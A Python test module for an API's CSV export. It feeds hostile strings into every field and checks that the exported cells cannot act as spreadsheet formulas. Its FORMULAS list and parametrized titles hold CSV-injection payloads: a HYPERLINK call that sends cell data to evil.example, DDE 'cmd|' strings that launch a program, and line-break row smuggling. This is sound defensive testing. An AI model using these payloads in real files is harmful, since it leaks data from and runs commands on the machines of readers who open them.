"""CSV exports that cannot be turned against their readers (issue 15, finding 4).

Each text a client may send (names, roles, summaries, terms, outcomes, outlets, quotes,
cities, document titles, the negotiation's title) is filled with hostile text, appended
through the API, exported as CSV through the real route, and read back as the README
says (``pandas.read_csv(path, comment="#")``) and as a spreadsheet would (every line
split into cells): the file has the rows and columns it should, no cell begins with a
formula character, and each text comes back exactly once its one added quote is dropped.
"""

from __future__ import annotations

import csv
import io
import json
import re
import uuid
from collections.abc import Callable, Iterator
from itertools import cycle
from pathlib import Path
from typing import Any

import httpx
import pandas as pd
import pytest
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from support import AUTH, Server

from api.formats import CSV_COLUMNS

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NEUTRALISED = re.compile(r"'+[=+\-@\t\r]")
TITLE_LINE = re.compile(r"# parley export of [a-z0-9-]+: (.*)")
HEADER_LINES = 15  # the '#' lines: the title, the 13 metadata keys, how to read it
ROWS = 23  # the opening and one event of every other world type

Text = Callable[[], str]


def undone(cell: str) -> str:
    """A neutralised cell's text: drop the quote added before a formula character."""
    return cell[1:] if NEUTRALISED.match(cell) else cell


# What a client sends: every text field filled by ``t``


def actor(t: Text, country: str = "RUS") -> dict[str, Any]:
    return {"name": t(), "country": country, "role": t()}


def source(t: Text) -> dict[str, Any]:
    return {"outlet": t(), "quote": t(), "via": [t()], "attributed_to": actor(t, "UKR")}


def hostile_negotiation(t: Text) -> tuple[dict[str, Any], list[dict[str, Any]]]:
    """A negotiation's opening and one event of every other world type, in which every
    text is ``t()``."""
    slug = f"hostile-{uuid.uuid4().hex[:12]}"
    opening = {
        "slug": slug,
        "title": t(),
        "parties": [actor(t), actor(t, "UKR")],
        "mediators": [actor(t, "TUR")],
        "occurred_at": "2025-05-01",
        "sources": [source(t)],
    }
    statement = str(uuid.uuid4())
    ceasefire = str(uuid.uuid4())
    place = {"city": t(), "country": "TUR", "region": "TR-34"}
    data: list[tuple[str, dict[str, Any]]] = [
        ("DelegationNamed", {"party": actor(t), "head": actor(t), "members": [actor(t)]}),
        (
            "ContactHeld",
            {"participants": [actor(t), actor(t, "UKR")], "medium": "phone", "summary": t()},
        ),
        ("StatementIssued", {"speaker": actor(t), "summary": t(), "topic": t()}),
        (
            "ProposalMade",
            {
                "proposal_id": "p-1",
                "proposer": actor(t),
                "addressees": [actor(t, "UKR"), actor(t, "TUR")],
                "subject": "other",
                "summary": t(),
                "terms": [t(), t()],
            },
        ),
        (
            "ProposalAnswered",
            {
                "proposal_id": "p-1",
                "responder": actor(t, "UKR"),
                "response": "countered",
                "summary": t(),
            },
        ),  # fmt: skip
        ("RoundScheduled", {"round": 1, "starts_at": "2025-06-01", "place": place}),
        ("HostAnnounced", {"round": 1, "host": actor(t, "TUR"), "place": place}),
        (
            "RoundHeld",
            {
                "round": 1,
                "place": place,
                "participants": [{"actor": actor(t), "role": "party"}],
                "outcomes": [t(), t()],
            },
        ),
        ("DocumentExchanged", {"title": t(), "from": actor(t), "to": actor(t, "UKR")}),
        ("CeasefireProposed", {"proposer": actor(t), "scope": ["UA-63"], "conditions": [t()]}),
        ("CeasefireDeclared", {"parties": [actor(t)], "effective_from": "2025-05-03"}),
        (
            "CeasefireLifted",
            {"ceasefire": ceasefire, "by": actor(t), "mode": "ended", "reason": t()},
        ),
        (
            "AgreementReached",
            {"agreement_id": "a-1", "title": t(), "kind": "framework", "parties": [actor(t)]},
        ),
        (
            "AgreementSigned",
            {
                "agreement_id": "a-1",
                "title": t(),
                "kind": "framework",
                "signatories": [{"actor": actor(t), "on_behalf_of": actor(t, "UKR")}],
                "witnesses": [actor(t, "TUR")],
                "guarantors": [actor(t, "TUR")],
                "provisions": [{"id": "1", "topic": "prisoners", "text": t()}],
                "place": place,
            },
        ),
        ("AgreementRatified", {"agreement_id": "a-1", "by": actor(t), "summary": t()}),
        (
            "ProvisionImplemented",
            {"agreement_id": "a-1", "provision": "1", "by": [actor(t)], "summary": t()},
        ),
        ("AgreementSuspended", {"agreement_id": "a-1", "by": actor(t), "reason": t()}),
        ("AgreementTerminated", {"agreement_id": "a-1", "by": actor(t), "reason": t()}),
        (
            "ViolationAlleged",
            {
                "accuser": actor(t, "UKR"),
                "accused": [actor(t)],
                "ceasefire": ceasefire,
                "summary": t(),
            },
        ),
        ("HostilitiesReported", {"parties": [actor(t)], "kind": "shelling", "summary": t()}),
        ("SecurityZoneDeclared", {"declared_by": actor(t), "regions": ["UA-63"]}),
        (
            "ClaimDisputed",
            {"event_id": statement, "disputed_by": actor(t, "UKR"), "counter_claim": t()},
        ),
    ]
    events = [
        {
            "type": kind,
            "occurred_at": "2025-05-02",
            "data": fields,
            "sources": [source(t)],
            "asserted_by": actor(t),
        }
        for kind, fields in data
    ]
    events[2]["id"] = statement
    events[next(i for i, e in enumerate(events) if e["type"] == "CeasefireDeclared")]["id"] = (
        ceasefire
    )
    return opening, events


# How the export is read


def read_back(text: str, path: Path) -> pd.DataFrame:
    """The export as the README reads it, from a file."""
    path.write_text(text, encoding="utf-8", newline="")
    return pd.read_csv(path, comment="#", dtype=str, keep_default_na=False)


def check_export(
    text: str, path: Path, opening: dict[str, Any], events: list[dict[str, Any]]
) -> None:
    """Everything this module promises of one export of ``hostile_negotiation``."""
    frame = read_back(text, path)
    assert tuple(frame.columns) == CSV_COLUMNS
    assert frame.shape == (ROWS, len(CSV_COLUMNS))
    for column in frame.columns:
        for cell in frame[column]:
            assert not cell.startswith(FORMULA_START), (column, cell)
    # A spreadsheet opens every line, the '#' ones too: the same cells, the same count.
    lines = list(csv.reader(io.StringIO(text, newline="")))
    assert len(lines) == HEADER_LINES + 1 + ROWS
    for line in lines:
        for cell in line:
            assert not cell.startswith(FORMULA_START), (line, cell)
    # The texts come back.
    title = TITLE_LINE.fullmatch(text.split("\n", 1)[0])
    assert title is not None and json.loads(f'"{title.group(1)}"') == opening["title"]
    by_type = frame.set_index("event_type")
    assert undone(by_type.loc["NegotiationOpened", "notes"]) == opening["title"]
    sent = {e["type"]: e["data"] for e in events}
    document, held, statement = (
        sent[kind] for kind in ("DocumentExchanged", "RoundHeld", "StatementIssued")
    )
    assert undone(by_type.loc["DocumentExchanged", "notes"]) == document["title"]
    assert undone(by_type.loc["DocumentExchanged", "actor1"]) == document["from"]["name"]
    assert undone(by_type.loc["RoundHeld", "location"]) == held["place"]["city"]
    assert undone(by_type.loc["StatementIssued", "actor1"]) == statement["speaker"]["name"]
    said = events[2]["sources"][0]
    assert undone(by_type.loc["StatementIssued", "source"]) == (
        f"{said['outlet']} (via {said['via'][0]})"
    )
    assert json.loads(by_type.loc["StatementIssued", "sources"])[0]["quote"] == said["quote"]


def post(client: TestClient | httpx.Client, url: str, body: Any, auth: dict[str, str]) -> None:
    response = client.post(url, json=body, headers=auth)
    assert response.status_code == 201, response.text


def export_in_process(client: TestClient, t: Text) -> tuple[str, dict[str, Any], list[Any]]:
    opening, events = hostile_negotiation(t)
    post(client, "/negotiations", opening, AUTH)
    post(client, f"/negotiations/{opening['slug']}/events", events, AUTH)
    answer = client.get(f"/negotiations/{opening['slug']}/export", params={"format": "csv"})
    assert answer.status_code == 200, answer.text
    return answer.text, opening, events


# The findings, one test each: each failed before the fix


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


def test_a_formula_at_the_start_of_any_text_is_read_as_text(
    client: TestClient, tmp_path: Path
) -> None:
    texts = cycle(FORMULAS)
    text, opening, events = export_in_process(client, lambda: next(texts))

    frame = read_back(text, tmp_path / "export.csv")
    check_export(text, tmp_path / "export.csv", opening, events)
    for column in ("actor1", "actor2", "source", "notes", "location"):
        assert frame[column].str.startswith("'").any(), column  # a quote, where one was due


@pytest.mark.parametrize("line_break", ["\n", "\r", "\r\n", "\u2028", "\x85", "\x0b\x0c"])
def test_a_line_break_in_the_title_stays_in_the_header(
    client: TestClient, tmp_path: Path, line_break: str
) -> None:
    injected = f'Talks{line_break}"injected","row"{line_break}=1+1,"x'
    texts = cycle([injected, "Istanbul"])
    text, opening, events = export_in_process(client, lambda: next(texts))

    assert text.split('"event_id"')[0].count("\n") == HEADER_LINES
    check_export(text, tmp_path / "export.csv", opening, events)


@pytest.mark.parametrize(
    "title", ['talks,=HYPERLINK("http://evil.example")', "talks; @SUM(1)", 'talks,"', "a\\b"]
)
def test_a_separator_or_quote_in_the_title_opens_no_cell_in_a_spreadsheet(
    client: TestClient, tmp_path: Path, title: str
) -> None:
    texts = cycle([title, "Istanbul"])
    text, opening, events = export_in_process(client, lambda: next(texts))

    check_export(text, tmp_path / "export.csv", opening, events)
    header = [line for line in text.splitlines() if line.startswith("#")]
    for separator in (",", ";"):
        for line in header:
            for cell in line.split(separator)[1:]:
                assert not cell.lstrip(" ").startswith((*FORMULA_START, '"')), line


# Any text


def api_text(max_size: int) -> st.SearchStrategy[str]:
    """Text the API accepts in a name, quote or summary (no NUL, no sealed look), biased
    towards formula characters, quotes, separators and line breaks."""
    pieces = st.sampled_from(
        ["=", "+", "-", "@", "\t", "\r", "\n", "\r\n", "'", '"', ",", ";", "#", "\\",
         "\u2028", "\x85", "\x0b", " "]
    )  # fmt: skip
    characters = st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00")
    any_text = st.text(characters, max_size=6)
    return (
        st.lists(st.one_of(pieces, any_text), min_size=1, max_size=8)
        .map("".join)
        .filter(lambda text: 0 < len(text) <= max_size and not text.startswith("sealed:v1:"))
    )


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(texts=st.lists(api_text(200), min_size=1, max_size=40))
def test_any_text_in_any_field_reads_back_with_pandas_and_starts_no_formula(
    client: TestClient, tmp_path: Path, texts: list[str]
) -> None:
    drawn = cycle(texts)  # the fields take the texts in turn
    text, opening, events = export_in_process(client, lambda: next(drawn))

    check_export(text, tmp_path / f"{opening['slug']}.csv", opening, events)


# Through a real server


@pytest.fixture
def live(server: Server) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=server.url, timeout=30) as http:
        yield http


def test_a_real_server_streams_a_hostile_negotiation_as_safe_csv(
    live: httpx.Client, server: Server, tmp_path: Path
) -> None:
    texts = cycle([*FORMULAS, 'Talks\n"injected","row"\r\n=1+1,"x', "talks, =1;@2\u2028"])
    opening, events = hostile_negotiation(lambda: next(texts))
    post(live, "/negotiations", opening, server.auth)
    post(live, f"/negotiations/{opening['slug']}/events", events, server.auth)

    with live.stream(
        "GET", f"/negotiations/{opening['slug']}/export", params={"format": "csv"}
    ) as answer:
        assert answer.status_code == 200
        assert answer.headers["content-type"].startswith("text/csv")
        body = b"".join(answer.iter_bytes()).decode()
    check_export(body, tmp_path / "export.csv", opening, events)
